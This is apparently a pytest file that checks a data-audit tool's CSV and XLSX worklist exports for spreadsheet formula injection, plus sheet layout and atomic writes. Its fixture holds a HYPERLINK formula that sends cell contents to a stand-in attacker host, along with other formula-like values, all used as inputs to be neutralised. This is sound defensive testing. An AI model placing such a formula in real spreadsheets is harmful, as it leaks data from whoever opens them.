"""worklist.csv and worklist.xlsx read back: same tasks, formulas neutralised, sheet layout."""

from __future__ import annotations

import copy
import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from auditor.reports import worklist_csv, xlsx
from auditor.worklist import WORKLIST_COLUMNS

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def poisoned(acme_audit):
    """The acme audit with formula-like values in the first task's current value, owner and issue."""
    result = copy.copy(acme_audit)
    worklist = acme_audit.worklist.copy()
    worklist.loc[0, "current_value"] = EVIL
    worklist.loc[0, "owner"] = "+48 601 234 567"
    worklist.loc[0, "issue"] = "@SUM(1+1)"
    worklist.loc[1, "current_value"] = "bad\x0bvalue"
    result.worklist = worklist
    return result


def test_csv_has_every_task_in_order_with_formulas_neutralised(poisoned, tmp_path: Path) -> None:
    path = tmp_path / "worklist.csv"
    worklist_csv.write(poisoned.worklist, path)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert tuple(back.columns) == WORKLIST_COLUMNS
    assert list(back["task_id"]) == list(poisoned.worklist["task_id"])
    assert back.loc[0, "current_value"] == "'" + EVIL
    assert back.loc[0, "owner"] == "'+48 601 234 567"
    assert back.loc[0, "issue"] == "'@SUM(1+1)"
    with path.open(newline="", encoding="utf-8") as handle:
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in csv.reader(handle) for cell in row)


def test_xlsx_sheets_layout_and_text_cells(poisoned, tmp_path: Path) -> None:
    path = tmp_path / "worklist.xlsx"
    xlsx.write(poisoned, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[:5] == ["Worklist", "Merges", "Records", "Summary", "Metrics"]
    sheet = book["Worklist"]
    assert [c.value for c in sheet[1]] == list(WORKLIST_COLUMNS)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(WORKLIST_COLUMNS))}{len(poisoned.worklist) + 1}"
    # XlsxWriter stores the width Excel shows plus its cell padding (60 characters: 60.71)
    assert int(sheet.column_dimensions[get_column_letter(WORKLIST_COLUMNS.index("issue") + 1)].width) == 60
    evil = sheet.cell(row=2, column=WORKLIST_COLUMNS.index("current_value") + 1)
    assert (evil.value, evil.data_type) == (EVIL, "s")
    owner = sheet.cell(row=2, column=WORKLIST_COLUMNS.index("owner") + 1)
    assert (owner.value, owner.data_type) == ("+48 601 234 567", "s")
    assert sheet.cell(row=3, column=WORKLIST_COLUMNS.index("current_value") + 1).value == "bad\\x0bvalue"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    first = poisoned.worklist.iloc[0]
    priority = sheet.cell(row=2, column=2)
    assert priority.value == 1 and isinstance(priority.value, int)
    assert priority.fill.fgColor.rgb.endswith(xlsx.SEVERITY_FILL[first["severity"]].lstrip("#"))


def test_xlsx_merges_summary_and_metrics(poisoned, tmp_path: Path) -> None:
    path = tmp_path / "worklist.xlsx"
    xlsx.write(poisoned, path)
    book = openpyxl.load_workbook(path, read_only=True)
    merges = list(book["Merges"].values)
    assert len(merges) - 1 == int((poisoned.worklist["action"] == "merge").sum())
    summary = dict(list(book["Summary"].values)[1:])
    assert summary["overall score"] == poisoned.scores.overall
    assert summary["gate"] == "failed"
    assert summary["tasks"] == len(poisoned.worklist)
    metrics = list(book["Metrics"].values)
    assert [r[0] for r in metrics[1:]] == [m.id for m in poisoned.metrics]
    confidence = metrics[0].index("confidence")
    assert {r[confidence] for r in metrics[1:]} <= {"HIGH", "MEDIUM", "LOW", "UNRELIABLE", "NOT_EVALUATED"}
    warning = metrics[0].index("warning")
    warned = {r[0]: r[warning] for r in metrics[1:] if r[warning]}
    assert warned == {m.id: m.warning for m in poisoned.metrics if m.warning}
    assert warned, "the poisoned export has metrics whose raw value is not to be trusted"


def test_xlsx_write_is_atomic(poisoned, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "worklist.xlsx"
    path.write_bytes(b"previous")

    def broken(fd: int) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("auditor.io.os.fsync", broken)
    with pytest.raises(OSError):
        xlsx.write(poisoned, path)
    assert path.read_bytes() == b"previous"
    assert list(tmp_path.iterdir()) == [path]
